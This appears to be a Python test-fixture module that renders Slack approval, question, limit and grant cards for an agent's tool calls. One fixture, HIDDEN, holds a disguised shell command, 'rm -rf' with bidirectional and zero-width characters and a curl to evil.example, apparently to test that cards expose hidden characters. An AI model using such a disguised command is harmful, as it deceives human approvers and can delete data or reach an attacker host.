"""Every card of people in the loop, as values: for pictures, and for Slack's own judgement of their blocks."""

from collections.abc import Mapping
from dataclasses import replace

from bot.render import answer, approval, limit, people, question
from bot.render.content import Content
from runtime.session.approval_events import ApprovalVoided, ArgumentsEdited, CoveredCall, GrantGiven, GrantRevoked
from runtime.session.events import (
    ApprovalDecided,
    ApprovalRequested,
    CallFinished,
    CallStarted,
    CallStatus,
    FormField,
    QuestionAnswered,
    RunOutcome,
)
from runtime.session.ids import SessionKey
from runtime.session.interrupted import OUTCOMES
from runtime.session.limit_events import LimitReached
from runtime.session.limit_state import LimitState
from runtime.session.state import ApprovalState, GrantState, QuestionState, RunState
from tests.session.story import NOON, SESSION, asked, finished, ran, replied, requested, said, started, told

KEY = SessionKey.parse(SESSION)
COMMAND = "psql shop -c \"update orders set day = '2026-11-30' where day is null\""
LONG = "\n".join(f"cp orders-{number}.csv archive/" for number in range(400))


def running() -> RunState:
    """A run with three calls."""
    run = told(said("go"), started(), replied("bash", "bash", "bash")).run
    assert run is not None
    return run


RUN = running()
ENDED = told(said("go"), started(), replied("bash"), *ran()[:1], finished(RunOutcome.STOPPED, "")).run
BASE = requested("U0BEN", "@oncall").model_copy(
    update={
        "tool": "bash",
        "title": "Run a shell command",
        "body": COMMAND,
        "arguments": '{"command":"psql"}',
        "reason": "rule",
        "group_ids": {"@oncall": "S0ONCALL"},
        "grant_ms": 8 * 3_600_000,
    }
)


def state(given: ApprovalRequested = BASE, **more: object) -> ApprovalState:
    """A request in a state of its own."""
    whole = {"requested": given, "seq": 4, "at_ms": NOON, **more}
    return ApprovalState(**whole)  # pyright: ignore[reportArgumentType] - by name


def part(call_id: str, title: str, body: str) -> CoveredCall:
    """A further call on a card."""
    return CoveredCall(
        call_id=call_id, tool="bash", arguments="{}", digest="d", definition="", rule_hash="", title=title, body=body,
        language="bash",
    )  # fmt: skip


CAREFUL = BASE.model_copy(
    update={
        "quorum": 2,
        "barred": ("U0ANA",),
        "attempt": 2,
        "previous_error": "ERROR: permission denied for table orders\nexit code 1",
        "grant_ms": 0,
        "escalate_to": ("U0CLEO",),
        "notes": ("Sets the day of 312 orders that have none.",),
    }
)
SEVERAL = BASE.model_copy(
    update={"also": (part("r1.1.1", "Run a shell command", LONG), part("r1.1.2", "Publish 2 files", "- a\n+ b"))}
)
HUGE = BASE.model_copy(update={"body": LONG * 30})
APPROVED = ApprovalDecided(run_id="r1", approval_id="a1", verdict="approved", by="U0CLEO", voters=("U0BEN", "U0CLEO"))
EXPIRED = ApprovalDecided(run_id="r1", approval_id="a1", verdict="expired", by="")
DENIED = ApprovalDecided(run_id="r1", approval_id="a1", verdict="denied", by="U0BEN", reason="Not on a Friday.")
VOID = ApprovalVoided(run_id="r1", approval_id="a1", why="changed", by="U0ANA")
EDIT = ArgumentsEdited(run_id="r1", call_id="r1.1.0", approval_id="a1", before="{}", after="{}", by="U0BEN")
GRANT = GrantGiven(
    grant_id="g1", approval_id="a1", tool="bash", rule="policy.rules[0]", rule_hash="", definition="", by="U0BEN",
    expires_at_ms=NOON + 8 * 3_600_000,
)  # fmt: skip
FIELDS = (
    FormField(name="amount", label="Amount in euros", kind="number"),
    FormField(name="day", label="Day", kind="date"),
    FormField(name="shop", label="Shop", kind="choice", choices=("Berlin", "Hamburg")),
    FormField(name="why", label="Why", kind="long_text", optional=True),
)


def ran_with_files() -> RunState:
    """The approved call has its outcome."""
    done = CallFinished(run_id="r1", call_id="r1.1.0", status=CallStatus.OK, output="ok", brief="312 rows", exit_code=0)
    begun = CallStarted(run_id="r1", call_id="r1.1.0", effect="at_most_once")
    run = told(said("go"), started(), replied("bash"), begun, done).run
    assert run is not None
    return run


def waiting(**terms: object) -> QuestionState:
    """A question with terms of its own."""
    return QuestionState(asked=asked("r1.1.0").model_copy(update=terms), seq=4, at_ms=NOON)


def unanswered() -> QuestionState:
    """A question that was given up."""
    given_up = QuestionAnswered(run_id="r1", question_id="q1", answer="", by="", how="expired")
    known = waiting(choices=("Nightly", "Hourly"), if_unanswered="hand_back")
    return QuestionState(asked=known.asked, seq=4, at_ms=NOON, answered=given_up)


def last_word() -> Content:
    """The end of a run that was stopped in the middle of a call."""
    assert ENDED is not None
    (content,) = answer.render(ENDED)
    more = people.ending(KEY, ENDED, is_newest=True)
    return Content(text=content.text, blocks=(*content.blocks, *more))


DIFF = BASE.model_copy(
    update={
        "title": "Publish 2 files to etl",
        "body": "--- a/import.py\n+++ b/import.py\n@@ -1,2 +1,2 @@\n-day = None\n+day = today()\n LIMIT = 10\n",
        "language": "diff",
        "reason": "unmatched",
    }
)
HIDDEN = BASE.model_copy(update={"body": "rm -rf build \u202e# gpj.exe\u200b && curl evil.example"})
LOST = {
    "purpose": "outcome_unknown",
    "question": "Set the day of the orders",
    "choices": OUTCOMES,
    "about": {"tool": "bash", "arguments": '{"command":"psql shop"}', "begun_at_ms": str(NOON), "approved_by": "U0BEN"},
}
LIMIT = LimitReached(
    run_id="r1", limit_id="l1", what="usd", used=2_500_000, limit=2_500_000, adds=2_500_000,
    approvers=("requester",), expires_at_ms=NOON + 3_600_000,
)  # fmt: skip


def limited() -> Content:
    """A run at its limit."""
    return limit.render(KEY, replace(RUN, open_limit="l1"), LimitState(reached=LIMIT, seq=4, at_ms=NOON))


def answered(**terms: object) -> Content:
    """A question with its answer."""
    given = QuestionAnswered(run_id="r1", question_id="q1", answer="Nightly", by="U0BEN", how="typed")
    return question.render(KEY, RUN, replace(waiting(**terms), answered=given))


CARDS: Mapping[str, Content] = {
    "approval, diff": approval.render(KEY, RUN, state(DIFF)),
    "approval, long": approval.render(KEY, RUN, state(BASE.model_copy(update={"body": LONG}))),
    "approval, hidden characters": approval.render(KEY, RUN, state(HIDDEN)),
    "approval, expired": approval.render(KEY, RUN, state(decided=EXPIRED)),
    "question": question.render(KEY, RUN, waiting(choices=("Nightly", "Hourly", "Both"))),
    "question, answered": answered(choices=("Nightly", "Hourly", "Both")),
    "question, outcome unknown": question.render(KEY, RUN, waiting(**LOST)),
    "limit": limited(),
    "approval": approval.render(KEY, RUN, state()),
    "approval, careful": approval.render(KEY, RUN, state(CAREFUL, votes=("U0BEN",), escalated=True)),
    "approval, several calls": approval.render(KEY, RUN, state(SEVERAL)),
    "approval, asked again": approval.render(
        KEY, RUN, state(BASE.model_copy(update={"asked_again": "edited", "asked_again_by": "U0BEN"}))
    ),
    "approval, void": approval.render(KEY, RUN, state(voided=VOID)),
    "approval, edited": approval.render(KEY, RUN, state(edited=EDIT)),
    "approval, ran": approval.render(KEY, ran_with_files(), state(decided=APPROVED)),
    "approval, denied": approval.render(KEY, RUN, state(decided=DENIED)),
    "allowance": people.grant(KEY, GrantState(given=GRANT, seq=5, uses=2), NOON),
    "allowance, revoked": people.grant(
        KEY, GrantState(given=GRANT, seq=5, revoked=GrantRevoked(grant_id="g1", by="U0ANA")), NOON
    ),
    "direct message": people.direct(KEY, RUN, state(), "U0BEN"),
    "direct message, too long": people.direct(KEY, RUN, state(HUGE), "U0BEN"),
    "question, form": question.render(KEY, RUN, waiting(question="Which order is it?", fields=FIELDS)),
    "question, file": question.render(KEY, RUN, waiting(question="Can you send me the log?", wants_file=True)),
    "question, default": question.render(
        KEY, RUN, waiting(choices=("Nightly", "Hourly"), if_unanswered="default", default="Nightly")
    ),
    "question, many choices": question.render(KEY, RUN, waiting(choices=tuple(f"Shop {n}" for n in range(60)))),
    "question, given up": question.render(KEY, RUN, unanswered()),
    "stopped": last_word(),
}
